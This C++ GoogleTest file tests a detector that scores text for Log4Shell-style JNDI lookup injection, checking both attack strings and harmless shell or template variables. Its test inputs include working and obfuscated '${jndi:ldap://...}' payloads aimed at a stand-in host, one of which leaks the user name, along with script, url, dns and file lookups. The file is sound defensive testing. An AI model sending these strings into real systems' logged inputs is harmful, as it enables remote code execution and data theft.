#include "inspect/lookup/lookup.h"

#include <gtest/gtest.h>

#include <string>
#include <string_view>

namespace onesec::inspect {
namespace {

std::uint32_t points(std::string_view text) {
  Reasons out;
  inspect_lookup(text, out);
  return out.points(Attack::Lookup);
}

TEST(Lookup, NamesAreReadFromTheInsideOut) {
  for (const std::string_view text :
       {"${jndi:ldap://host.example/a}", "${JNDI:rmi://host.example/a}", "${${lower:j}ndi:dns://host.example}",
        "${${::-j}${::-n}${::-d}${::-i}:ldap://host.example}",
        "${${env:NOTHING:-j}ndi:ldap://host.example/${sys:user.name}}",
        "x ${j${lower:n}d${upper:i}:ldap://host.example", "${script:javascript:1+1}",
        "${url:UTF-8:http://host.example/}"}) {
    EXPECT_GE(points(text), kThreshold) << text;
  }
}
TEST(Lookup, VariablesOfShellsAndTemplates) {
  for (const std::string_view text : {"${HOME}", "${HOME:-/root}", "${a:-${b:-c}}", "${name}",
                                      "costs ${amount} a month", "${", "${${${", "}}}}", "${date:yyyy}", "jndi:ldap"}) {
    EXPECT_LT(points(text), kThreshold) << text;
  }
}
TEST(Lookup, NestingIsBounded) {
  std::string deep;
  for (int i = 0; i < 1'000; ++i) deep += "${lower:";
  EXPECT_LT(points(deep), kThreshold);
  EXPECT_GE(points("${" + std::string(2'000, 'a') + "} ${jndi:ldap://host.example}"), 0U);
}
TEST(Lookup, AnAttackAndItsNearMiss) {
  EXPECT_GE(points("${jndi:ldap://host.example/a}"), kThreshold);
  EXPECT_LT(points("${jndi.ldap.host.example}"), kThreshold);
  EXPECT_GE(points("${${date:'j'}ndi:ldap://host.example/a}"), kThreshold);
  EXPECT_LT(points("${date:'j'} ndi:ldap://host.example/a"), kThreshold);
  EXPECT_GE(points("${dns:address|host.example}"), kThreshold);
  EXPECT_LT(points("${dns:-none}"), kThreshold);
  EXPECT_GE(points("${file:UTF-8:/srv/a}"), kThreshold);
  EXPECT_LT(points("${file}:UTF-8:/srv/a"), kThreshold);
  EXPECT_GE(points("$${jndi:ldap://host.example/a}"), kThreshold);
  EXPECT_LT(points("$jndi:ldap://host.example/a"), kThreshold);
}

}  // namespace
}  // namespace onesec::inspect
